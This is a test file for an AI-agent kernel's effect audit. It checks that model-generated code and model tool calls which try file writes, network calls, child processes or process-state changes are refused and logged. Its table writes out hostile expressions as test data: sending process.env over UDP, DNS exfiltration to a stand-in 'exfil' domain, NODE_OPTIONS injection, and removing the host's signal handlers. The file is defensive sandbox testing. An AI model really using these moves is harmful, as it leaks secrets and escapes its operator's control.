/**
 * The effect-audit table (issue 13, item 3; docs/effect-audit.md): every audited entry point is exercised
 * from generated code and from a model expression; each is refused, recorded as a trace anomaly naming
 * the entry point, and has no effect (no file appears, no byte reaches the local listeners). From a model
 * expression a refused perimeter effect also ends the Natural step (seed 001: `perimeter_refused`).
 */
import childProcess from 'node:child_process';
import dgram from 'node:dgram';
import dns from 'node:dns';
import fs from 'node:fs';
import http from 'node:http';
import http2 from 'node:http2';
import https from 'node:https';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import tls from 'node:tls';
import workerThreads from 'node:worker_threads';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AgentExecutor, installEffectAudit, NaturalExecutionError, Session, step } from '../../kernel/src/index.js';
import { ScriptedModel, toolCall } from '../../kernel/src/testing.js';
import { finish, runGenerated, scriptedRunner } from '../harness/support.js';

/** [entry point recorded, expression using the granted references]; `raw:` entries are refused by the raw-dynamic tier. */
export const EFFECT_TABLE: readonly [string, string][] = [
  ...['writeFile', 'appendFile'].flatMap((n) => [
    [`fs.${n}Sync`, `fs.${n}Sync(dir + '/a', 'x')`],
    [`fs.${n}`, `fs.${n}(dir + '/a', 'x', () => {})`],
    [`fs.promises.${n}`, `fsp.${n}(dir + '/a', 'x')`],
  ] as [string, string][]),
  ...['mkdir', 'mkdtemp', 'rm', 'rmdir', 'unlink'].flatMap((n) => [
    [`fs.${n}Sync`, `fs.${n}Sync(dir + '/b')`],
    [`fs.${n}`, `fs.${n}(dir + '/b', () => {})`],
    [`fs.promises.${n}`, `fsp.${n}(dir + '/b')`],
  ] as [string, string][]),
  ...['rename', 'link', 'symlink', 'copyFile', 'cp'].flatMap((n) => [
    [`fs.${n}Sync`, `fs.${n}Sync(existing, dir + '/c')`],
    [`fs.${n}`, `fs.${n}(existing, dir + '/c', () => {})`],
    [`fs.promises.${n}`, `fsp.${n}(existing, dir + '/c')`],
  ] as [string, string][]),
  ...['truncate', 'chmod', 'chown', 'utimes', 'lchown', 'lutimes'].flatMap((n) => {
    const args = n === 'truncate' ? '0' : n === 'chmod' ? '0o600' : n.endsWith('chown') ? '0, 0' : '1, 1';
    return [
      [`fs.${n}Sync`, `fs.${n}Sync(existing, ${args})`],
      [`fs.${n}`, `fs.${n}(existing, ${args}, () => {})`],
      [`fs.promises.${n}`, `fsp.${n}(existing, ${args})`],
    ] as [string, string][];
  }),
  ...['ftruncate', 'fchmod', 'fchown', 'futimes'].flatMap((n) => {
    const args = n === 'ftruncate' ? '0' : n === 'fchmod' ? '0o600' : n === 'fchown' ? '0, 0' : '1, 1';
    return [
      [`fs.${n}Sync`, `fs.${n}Sync(fd, ${args})`],
      [`fs.${n}`, `fs.${n}(fd, ${args}, () => {})`],
    ] as [string, string][];
  }),
  ['fs.writeSync', "fs.writeSync(fd, 'x')"],
  ['fs.write', "fs.write(fd, 'x', () => {})"],
  ['fs.writevSync', "fs.writevSync(fd, [Buffer.from('x')])"],
  ['fs.openSync(write)', "fs.openSync(dir + '/d', 'w')"],
  ['fs.open(write)', "fs.open(dir + '/d', 'a', () => {})"],
  ['fs.promises.open(write)', "fsp.open(dir + '/d', 'w+')"],
  ['fs.openSync(write)', "fs.openSync(dir + '/d', fs.constants.O_CREAT | fs.constants.O_WRONLY)"],
  ['fs.createWriteStream', "fs.createWriteStream(dir + '/e')"],
  ['fs.WriteStream', "new fs.WriteStream(dir + '/e')"],
  ['FileHandle.write', "fh.write('x')"],
  ['FileHandle.writev', "fh.writev([Buffer.from('x')])"],
  ['FileHandle.writeFile', "fh.writeFile('x')"],
  ['FileHandle.appendFile', "fh.appendFile('x')"],
  ['FileHandle.truncate', 'fh.truncate(0)'],
  ['FileHandle.chmod', 'fh.chmod(0o600)'],
  ['FileHandle.chown', 'fh.chown(0, 0)'],
  ['FileHandle.utimes', 'fh.utimes(1, 1)'],
  ['FileHandle.createWriteStream', 'fh.createWriteStream()'],
  ['net.Socket.connect', 'net.connect(tcpPort, "127.0.0.1")'],
  ['net.Socket.connect', 'net.createConnection({ port: tcpPort, host: "127.0.0.1" })'],
  ['net.Socket.connect', 'new net.Socket().connect(tcpPort, "127.0.0.1")'],
  // A Unix socket reaches local daemons (the kernel pool's, a Docker socket) with no network at all.
  ['net.Socket.connect', 'net.connect(unixPath)'],
  ['net.Socket.connect', 'net.createConnection({ path: unixPath })'],
  ['net.Socket.connect', 'new net.Socket().connect({ path: unixPath })'],
  ['net.Server.listen', 'net.createServer().listen(0)'],
  ['tls.connect', 'tls.connect(tcpPort, "127.0.0.1")'],
  ['dgram.Socket.send', 'dgram.createSocket("udp4").send(JSON.stringify(process.env), udpPort, "127.0.0.1")'],
  ['dgram.Socket.bind', 'dgram.createSocket("udp4").bind(0)'],
  ['dgram.Socket.connect', 'dgram.createSocket("udp4").connect(udpPort, "127.0.0.1")'],
  // A DNS query carries data to the resolver it asks (the local UDP listener stands in for an attacker's server).
  ['dns.Resolver.resolveTxt', '[new dns.Resolver({ timeout: 100, tries: 1 })].map((r) => (r.setServers(["127.0.0.1:" + udpPort]), r.resolveTxt("secret.exfil.example", () => {})))'],
  ['dns.promises.Resolver.resolve4', '[new dns.promises.Resolver({ timeout: 100, tries: 1 })].map((r) => (r.setServers(["127.0.0.1:" + udpPort]), r.resolve4("secret.exfil.example")))'],
  ['dns.resolveTxt', 'dns.resolveTxt("secret.exfil.example", () => {})'],
  ['dns.promises.resolveTxt', 'dns.promises.resolveTxt("secret.exfil.example")'],
  ['dns.lookup', 'dns.lookup("secret.exfil.example", () => {})'],
  ['dns.promises.lookup', 'dns.promises.lookup("secret.exfil.example")'],
  ['http.request', 'http.request(`http://127.0.0.1:${tcpPort}/`).end()'],
  ['http.get', 'http.get(`http://127.0.0.1:${tcpPort}/`)'],
  ['http.ClientRequest', 'new http.ClientRequest(`http://127.0.0.1:${tcpPort}/`)'],
  ['net.Server.listen', 'http.createServer().listen(0)'],
  ['https.request', 'https.request(`https://127.0.0.1:${tcpPort}/`).end()'],
  ['https.get', 'https.get(`https://127.0.0.1:${tcpPort}/`)'],
  ['http.request', "http.request({ socketPath: unixPath, path: '/' }).end()"],
  ['http2.connect', 'http2.connect(`http://127.0.0.1:${tcpPort}`)'],
  ['fetch', 'fetch(`http://127.0.0.1:${tcpPort}/`)'],
  ...['spawn', 'exec', 'execFile', 'fork'].flatMap((n) => [[`child_process.${n}`, `cp.${n}('true')`]] as [string, string][]),
  ...['spawnSync', 'execSync', 'execFileSync'].flatMap((n) => [[`child_process.${n}`, `cp.${n}('true')`]] as [string, string][]),
  ['child_process.ChildProcess.spawn', "new cp.ChildProcess().spawn({ file: 'true', args: ['true'], stdio: 'ignore' })"],
  ['raw:process.binding', "process.binding('spawn_sync')"],
  ['raw:process._linkedBinding', "process._linkedBinding('spawn_sync')"],
  ['worker_threads.Worker', 'new wt.Worker(workerFile)'],
  ['process.on(exit)', "process.on('exit', () => {})"],
  ['process.once(exit)', "process.once('beforeExit', () => {})"],
  ['process.addListener(exit)', "process.addListener('exit', () => {})"],
  ['process.prependListener(exit)', "process.prependListener('beforeExit', () => {})"],
  ['process.prependOnceListener(exit)', "process.prependOnceListener('exit', () => {})"],
  // A signal listener replaces Node's default action (the host would ignore SIGTERM); Math.abs: a built-in,
  // which no guard of model code sees.
  ['process.on(signal)', "process.on('SIGTERM', Math.abs)"],
  ['process.once(signal)', "process.once('SIGINT', () => {})"],
  ['process.addListener(signal)', "process.addListener('SIGHUP', () => {})"],
  ['process.prependListener(signal)', "process.prependListener('SIGUSR2', () => {})"],
  ['process.prependOnceListener(signal)', "process.prependOnceListener('SIGQUIT', () => {})"],
  ['process.on(error)', "process.on('uncaughtException', () => {})"],
  ['process.once(error)', "process.once('unhandledRejection', () => {})"],
  // Removing the host's own handlers: no reference is needed for all of them, listeners() hands out the rest.
  ['process.removeAllListeners()', 'process.removeAllListeners()'],
  ['process.removeAllListeners(signal)', "process.removeAllListeners('SIGINT')"],
  ['process.removeAllListeners(error)', "process.removeAllListeners('uncaughtException')"],
  ['process.removeAllListeners(exit)', "process.removeAllListeners('exit')"],
  // Node arms each signal listener from its own 'newListener' listener; a model's listener there is handed the
  // host's later listeners.
  ['process.removeAllListeners(listener)', "process.removeAllListeners('newListener')"],
  ['process.on(listener)', "process.on('newListener', () => {})"],
  ['process.removeListener(signal)', "process.removeListener('SIGINT', process.listeners('SIGINT')[0])"],
  ['process.off(error)', "process.off('unhandledRejection', process.listeners('unhandledRejection')[0])"],
  // Emitted by hand, the host's own handlers would run as if it had happened (the kernel's interrupt, its exit).
  ['process.emit(signal)', "process.emit('SIGINT')"],
  ['process.emit(exit)', "process.emit('beforeExit', 0)"],
  ['process.emit(ipc)', "process.emit('disconnect')"],
  // A kernel's server sends it cells and the operator's answers on 'message'.
  ['process.on(ipc)', "process.on('message', () => {})"],
  ['process.kill', 'process.kill(process.pid, 0)'],
  // Not refused, any of these would end the test process itself.
  ['process.exit', 'process.exit(3)'],
  ['process.reallyExit', 'process.reallyExit(4)'],
  ['process.abort', 'process.abort()'],
  // Process-wide state the host's later effects inherit (each harmless here if it were not refused).
  ['process.chdir', 'process.chdir(dir)'],
  ['process.umask', 'process.umask(0)'],
  ['process.setuid', 'process.setuid(process.getuid())'],
  ['process.setgid', 'process.setgid(process.getgid())'],
  ['process.setgroups', 'process.setgroups(process.getgroups())'],
  ['process.setUncaughtExceptionCaptureCallback', 'process.setUncaughtExceptionCaptureCallback(null)'],
  ['process.loadEnvFile', 'process.loadEnvFile(existing)'],
  // The environment is what the host's next child process starts with: NODE_OPTIONS=--import=data:… would run
  // model-chosen code there.
  ['process.env', "process.env.NODE_OPTIONS = '--import=data:text/javascript,0'"],
  ['process.env', 'delete process.env.PATH'],
  ['process.env', "Object.defineProperty(process.env, 'NH_MODEL_SET', { value: '1' })"],
  ['process.env', "process.env = { NODE_OPTIONS: '--import=data:text/javascript,0' }"],
];

const dir = fs.mkdtempSync(join(tmpdir(), 'nh-effects-'));
const existing = join(dir, 'existing.txt');
const workerFile = join(dir, 'worker.mjs');
let fd = -1;
let fh: fs.promises.FileHandle;
let tcp: net.Server;
let udp: dgram.Socket;
let unix: net.Server;
// Outside `dir`, whose listing each test compares.
const socketDir = fs.mkdtempSync(join(tmpdir(), 'nh-effects-sock-'));
const unixPath = join(socketDir, 'daemon.sock');
let tcpPort = 0;
let udpPort = 0;
let contacts = 0;
let references: Record<string, unknown>;
const exitListeners = () => ['exit', 'beforeExit', 'SIGTERM', 'SIGINT', 'SIGHUP', 'SIGUSR2', 'SIGQUIT', 'uncaughtException', 'unhandledRejection', 'message', 'newListener', 'removeListener'].reduce((n, event) => n + process.listenerCount(event), 0);
// The host's own handlers, which a refused removal leaves in place.
let hostSignalCalls = 0;
const hostSignalHandler = (): void => {
  hostSignalCalls++;
};
const hostRejectionHandler = (): void => {};
/** What a refused process-state change would have changed; `env` compared by identity too. */
const processState = () => ({ cwd: process.cwd(), umask: process.umask(), env: process.env, nodeOptions: process.env.NODE_OPTIONS, path: process.env.PATH, marker: process.env.NH_MODEL_SET });

beforeAll(async () => {
  installEffectAudit();
  process.on('SIGINT', hostSignalHandler).on('unhandledRejection', hostRejectionHandler);
  fs.writeFileSync(existing, 'keep');
  fs.writeFileSync(workerFile, '');
  fd = fs.openSync(existing, 'r');
  fh = await fs.promises.open(existing, 'r');
  tcp = net.createServer((s) => {
    contacts++;
    s.destroy();
  });
  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
  tcpPort = (tcp.address() as net.AddressInfo).port;
  udp = dgram.createSocket('udp4');
  udp.on('message', () => contacts++);
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  udpPort = udp.address().port;
  unix = net.createServer((s) => {
    contacts++;
    s.destroy();
  });
  await new Promise<void>((resolve) => unix.listen(unixPath, resolve));
  references = { fs, fsp: fs.promises, fd, fh, dir, existing, workerFile, net, tls, dgram, dns, http, https, http2, cp: childProcess, wt: workerThreads, tcpPort, udpPort, unixPath };
});

afterAll(async () => {
  process.off('SIGINT', hostSignalHandler).off('unhandledRejection', hostRejectionHandler);
  fs.closeSync(fd);
  await fh.close();
  tcp.close();
  udp.close();
  unix.close();
  fs.rmSync(dir, { recursive: true, force: true });
  fs.rmSync(socketDir, { recursive: true, force: true });
});

const listing = () => fs.readdirSync(dir).sort();
const expectedAnomaly = (entry: string) =>
  entry.startsWith('raw:') ? { status: 'raw_dynamic_execution' } : { status: 'unmediated_perimeter_effect', data: expect.objectContaining({ effect: entry }) };

/** What any refused entry would have changed: files, the listeners' targets, process state. */
function observe() {
  return { files: listing(), listeners: exitListeners(), state: processState() };
}

function expectNothingChanged(before: ReturnType<typeof observe>): void {
  expect(listing()).toEqual(before.files);
  expect(contacts).toBe(0);
  expect(hostSignalCalls, 'the host handler did not run').toBe(0);
  expect(exitListeners()).toBe(before.listeners);
  const after = processState();
  expect(after).toEqual(before.state);
  expect(after.env).toBe(before.state.env);
}

async function settle(): Promise<void> {
  await new Promise((resolve) => setTimeout(resolve, 20));
}

describe('effect-audit table (issue 13)', () => {
  it('covers every entry point the issue names', () => {
    const entries = new Set(EFFECT_TABLE.map(([e]) => e));
    for (const op of ['writeFile', 'appendFile', 'mkdir', 'mkdtemp', 'rm', 'rmdir', 'unlink', 'rename', 'link', 'symlink', 'copyFile', 'truncate', 'chmod', 'chown', 'utimes']) {
      for (const form of [`fs.${op}Sync`, `fs.${op}`, `fs.promises.${op}`]) expect(entries).toContain(form);
    }
    for (const e of ['fs.promises.open(write)', 'FileHandle.write', 'fs.createWriteStream', 'net.Socket.connect', 'tls.connect', 'dgram.Socket.send', 'http.request', 'https.request', 'http2.connect', 'fetch', 'child_process.spawn', 'raw:process.binding', 'worker_threads.Worker', 'process.on(exit)', 'process.once(exit)']) {
      expect(entries).toContain(e);
    }
  });

  describe('from generated code', () => {
    it.each(EFFECT_TABLE)('%s: %s is refused and recorded', async (entry, expression) => {
      const before = observe();
      const { runner, outcome } = await runGenerated(`export function run() { return ${expression}; }`, references);
      await settle();
      expect(outcome).toHaveProperty('error');
      expect(runner.ledger.select({ kind: 'trace.anomaly' })).toEqual([expect.objectContaining(expectedAnomaly(entry))]);
      expectNothingChanged(before);
    });
  });

  describe('from a model expression', () => {
    it.each(EFFECT_TABLE)('%s: %s is refused and recorded', async (entry, expression) => {
      const before = observe();
      const { runner } = scriptedRunner([() => ({ toolCalls: [toolCall('nh_evaluate', { expression })] }), () => ({ toolCalls: [finish()] })]);
      const outcome = await runner.run(async () => step({ program: 'execute\nGo.' }), { grant: { references } }).then((value) => ({ value }), (error: unknown) => ({ error }));
      await settle();
      const [operation] = runner.ledger.select({ kind: 'operation' });
      if (entry.startsWith('raw:')) {
        // The raw-dynamic tier refuses before any effect is attempted: the expression fails, the step goes on.
        expect(outcome).not.toHaveProperty('error');
        expect(operation!.status).toBe('failed');
      } else {
        // Seed 001: a rejected perimeter effect is terminal — the Natural step and its run end `perimeter_refused`.
        expect((outcome as { error?: unknown }).error).toBeInstanceOf(NaturalExecutionError);
        expect((outcome as { error: NaturalExecutionError }).error.failure).toBe('perimeter_refused');
        expect(operation!.status).toBe('aborted');
        expect(runner.ledger.select({ kind: 'execution.end' }).map((e) => e.status)).toEqual(['failed']);
        expect(runner.ledger.select({ kind: 'run.end' }).map((e) => e.status)).toEqual(['failed']);
      }
      const anomalies = runner.ledger.select({ kind: 'trace.anomaly' });
      expect(anomalies).toEqual([expect.objectContaining(expectedAnomaly(entry))]);
      expectNothingChanged(before);
    });
  });

  // The same attempts from a model step inside a SessionFunction a cell called: the Session's run meets the
  // same audit, and its ledger records the same anomaly.
  describe('from a model expression in a SessionFunction', () => {
    it.each(EFFECT_TABLE)('%s: %s is refused and recorded', async (entry, expression) => {
      const before = observe();
      const model = new ScriptedModel([() => ({ toolCalls: [toolCall('nh_evaluate', { expression })] }), () => ({ toolCalls: [finish()] })]);
      const session = new Session({ executor: new AgentExecutor({ model }) });
      const { act } = session.materialized(session.submit('async function act() {}'), { act: async () => step({ program: 'execute\nGo.', references }) });
      const outcome = await act!().then((value) => ({ value }), (error: unknown) => ({ error }));
      await settle();
      if (!entry.startsWith('raw:')) expect((outcome as { error?: NaturalExecutionError }).error?.failure).toBe('perimeter_refused');
      expect(session.ledger.select({ kind: 'trace.anomaly' })).toEqual([expect.objectContaining(expectedAnomaly(entry))]);
      expectNothingChanged(before);
    });
  });

  it('an environment a tool assigned in place of process.env (outside any run) is guarded the same way', async () => {
    const saved = process.env;
    process.env = { ...saved };
    try {
      const replaced = process.env;
      const { runner } = scriptedRunner([() => ({ toolCalls: [toolCall('nh_evaluate', { expression: "process.env.NODE_OPTIONS = '--import=data:text/javascript,0'" })] }), () => ({ toolCalls: [finish()] })]);
      const outcome = await runner.run(async () => step({ program: 'execute\nGo.' })).then((value) => ({ value }), (error: unknown) => ({ error }));
      expect((outcome as { error?: NaturalExecutionError }).error?.failure).toBe('perimeter_refused');
      expect(runner.ledger.select({ kind: 'trace.anomaly' })).toEqual([expect.objectContaining(expectedAnomaly('process.env'))]);
      expect(process.env).toBe(replaced);
      expect(process.env.NODE_OPTIONS).toBe(saved.NODE_OPTIONS);
    } finally {
      process.env = saved;
    }
  });

  // Adding a listener emits 'newListener' on the process: refusing that emit would refuse every listener.
  it("a model's listener for an event that is no lifecycle event ('warning') is still added and removed", async () => {
    const before = process.listenerCount('warning');
    const expression = "(() => { const f = () => {}; process.on('warning', f); const added = process.listenerCount('warning'); process.off('warning', f); return added; })()";
    const { runner } = scriptedRunner([() => ({ toolCalls: [toolCall('nh_evaluate', { expression })] }), () => ({ toolCalls: [finish()] })]);
    await runner.run(async () => step({ program: 'execute\nGo.' }));
    const [operation] = runner.ledger.select({ kind: 'operation' });
    expect(operation!.status).toBe('completed');
    expect(runner.ledger.select({ kind: 'trace.anomaly' })).toEqual([]);
    expect(process.listenerCount('warning')).toBe(before);
  });

  // The same attempts written by the operator in a SessionFunction body: a run's composition meets the same
  // audit (effects go through granted capabilities), so each is refused there too and recorded in its run.
  describe('from a SessionFunction body', () => {
    it.each(EFFECT_TABLE.filter(([entry]) => !entry.startsWith('raw:')))('%s: %s is refused and recorded', async (entry, expression) => {
      const before = observe();
      const names = Object.keys(references);
      const session = new Session({ executor: new AgentExecutor({ model: new ScriptedModel([() => ({ toolCalls: [finish()] })]) }) });
      const body = new Function(...names, 'process', `return (async () => ${expression})();`) as (...args: unknown[]) => Promise<unknown>;
      const { act } = session.materialized(session.submit('async function act() {}'), { act: async () => body(...names.map((n) => references[n]), process) });
      const outcome = await act!().then((value) => ({ value }), (error: unknown) => ({ error }));
      await settle();
      expect((outcome as { error?: Error }).error?.name).toBe('UnmediatedPerimeterEffectError');
      expect(session.ledger.select({ kind: 'trace.anomaly' })).toEqual([expect.objectContaining(expectedAnomaly(entry))]);
      expectNothingChanged(before);
    });
  });
});
